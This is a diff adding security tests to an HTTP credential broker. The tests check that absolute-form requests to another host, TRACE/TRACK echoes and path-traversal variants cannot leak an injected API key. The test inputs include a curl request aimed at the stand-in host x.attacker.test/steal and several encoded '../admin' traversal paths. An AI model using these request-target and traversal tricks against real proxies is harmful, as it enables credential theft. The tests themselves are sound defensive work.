@@ -23,7 +23,7 @@ namespace {
 using namespace std::chrono_literals;
 
 // The upstream: every request is one line "REQ METHOD PATH" and one "HDR name: value" a
-// header. /events sends event 1, then waits for a request to /second before it sends
+// header. TRACE echoes the request's head, as RFC 9110 9.3.8 has a server do. /events sends event 1, then waits for a request to /second before it sends
 // event 2 (a broker that held the stream back would never let the client ask); /hang
 // sends one event and notes "EOF /hang" when its client goes away.
 constexpr char kUpstream[] = R"py(import http.server, os, socket, socketserver, sys, threading, time
@@ -42,7 +42,7 @@ class H(http.server.BaseHTTPRequestHandler):
         self.end_headers()
         self.wfile.write(body)
     def do_GET(self):
-        note("REQ GET " + self.path)
+        note("REQ %s %s" % (self.command, self.path))
         for k, v in self.headers.items():
             note("HDR %s: %s" % (k.lower(), v))
         if self.path == "/events":
@@ -77,6 +77,15 @@ class H(http.server.BaseHTTPRequestHandler):
         else:
             self.reply(b"hello from upstream\n")
     do_POST = do_GET
+    def do_TRACE(self):
+        note("REQ TRACE " + self.path)
+        head = ("%s %s %s\r\n%s" % (self.command, self.path, self.request_version,
+                                       self.headers)).encode()
+        self.send_response(200)
+        self.send_header("Content-Type", "message/http")
+        self.send_header("Content-Length", str(len(head)))
+        self.end_headers()
+        self.wfile.write(head)
 class Tcp(socketserver.ThreadingMixIn, http.server.HTTPServer):
     daemon_threads = True
 class Unix(socketserver.ThreadingMixIn, socketserver.UnixStreamServer):
@@ -325,6 +334,79 @@ TEST_F(BrokerTest, RefusesUpgradeAndMalformedRequests) {
   EXPECT_EQ(r.exit_code, 0) << r.err;
   EXPECT_TRUE(Contains(r.out, "501\nHTTP/1.1 400 Bad Request")) << r.out;
   EXPECT_FALSE(Contains(Lines(up.log()), "/ws")) << Lines(up.log());
+}
+
+// Only origin-form reaches the target (issue 14, item 2): an absolute-form request for
+// another authority would have a target that routes by request-target (a CDN edge, a
+// shared reverse proxy) hand the credential to that origin. It gets a 400; absolute-form
+// for the target's own authority goes on in origin-form; asterisk-form gets a 400.
+TEST_F(BrokerTest, SpeaksOnlyOriginFormToItsTarget) {
+  Upstream up;
+  ASSERT_GT(up.port(), 0);
+  HostSecret secret;
+  const std::string code = "curl -s -o /dev/null -w '%{http_code}\\n' ";
+  RunOutput r = Sh(code + "--request-target http://x.attacker.test/steal http://127.0.0.1:8080/; " +
+                       "curl -sS --request-target http://127.0.0.1:" + std::to_string(up.port()) +
+                       "/own http://127.0.0.1:8080/; " + code +
+                       "-X OPTIONS --request-target '*' http://127.0.0.1:8080/",
+                   {"--broker", "m=port=8080,to=" + up.url() +
+                                    ",header=x-api-key:env:BRIG_TEST_BROKER_KEY"});
+  EXPECT_EQ(r.exit_code, 0) << r.err;
+  EXPECT_EQ(r.out, "400\nhello from upstream\n400\n");
+  std::string log = Lines(up.log());
+  EXPECT_FALSE(Contains(log, "attacker")) << log;
+  EXPECT_EQ(log.substr(0, log.find('\n')), "REQ GET /own") << log;
+  EXPECT_EQ(std::count(log.begin(), log.end(), 'Q'), 1) << log;  // one REQ line
+}
+
+// TRACE (and TRACK) would have an echoing target reflect the credential into the sandbox
+// (issue 14, item 2): 405, and nothing reaches the target.
+TEST_F(BrokerTest, TraceAndTrackGet405) {
+  Upstream up;
+  ASSERT_GT(up.port(), 0);
+  HostSecret secret;
+  RunOutput r = Sh("curl -s -X TRACE -w '\\n%{http_code}\\n' http://127.0.0.1:8080/t; "
+                   "curl -s -o /dev/null -X TRACK -w '%{http_code}\\n' http://127.0.0.1:8080/t",
+                   {"--broker", "m=port=8080,to=" + up.url() +
+                                    ",header=x-api-key:env:BRIG_TEST_BROKER_KEY"});
+  EXPECT_EQ(r.exit_code, 0) << r.err;
+  EXPECT_FALSE(Contains(r.out, secret.value())) << r.out;
+  EXPECT_TRUE(Contains(r.out, "\n405\n405\n")) << r.out;
+  EXPECT_EQ(Lines(up.log()), "");
+}
+
+// methods= and paths= bind a broker's secrets to what the phase needs (issue 14, item 2):
+// anything else gets a 403 and never reaches the target, and so does a path that a
+// normalising target could read as another one.
+TEST_F(BrokerTest, MethodsAndPathsBindTheCredential) {
+  Upstream up;
+  ASSERT_GT(up.port(), 0);
+  HostSecret secret;
+  std::string script;
+  for (const char* req : {"/v1/models", "-X POST /v1/models", "/admin", "/v1/../admin",
+                          "/v1/%2e%2e/admin", "/v1/%2E%2E%2Fadmin", "/v1//models", "/v1/..;/admin",
+                          "/v1/./models", "//v1/models", "/v2/models", "/v2/modelsX",
+                          "/v2/models/x", "/v1"}) {
+    std::string method, path = req;
+    if (path[0] == '-') {
+      method = path.substr(0, path.rfind(' '));
+      path = path.substr(path.rfind(' ') + 1);
+    }
+    script += "curl -s -o /dev/null --path-as-is " + method +
+              " -w '%{http_code} ' 'http://127.0.0.1:8080" + path + "'; ";
+  }
+  RunOutput r = Sh(script, {"--broker", "m=port=8080,to=" + up.url() +
+                                            ",header=x-api-key:env:BRIG_TEST_BROKER_KEY," +
+                                            "methods=GET,HEAD,paths=/v1/,/v2/models"});
+  EXPECT_EQ(r.exit_code, 0) << r.err;
+  EXPECT_EQ(r.out, "200 403 403 403 403 403 403 403 403 403 200 403 200 403 ") << r.err;
+  EXPECT_EQ(Lines(up.log()).find("REQ "), 0u);
+  std::string reqs;
+  std::istringstream in(Lines(up.log()));
+  for (std::string line; std::getline(in, line);) {
+    if (line.rfind("REQ ", 0) == 0) reqs += line + "\n";
+  }
+  EXPECT_EQ(reqs, "REQ GET /v1/models\nREQ GET /v2/models\nREQ GET /v2/models/x\n");
 }
 
 // An https target: brig speaks TLS itself, verifying the certificate against the CA store
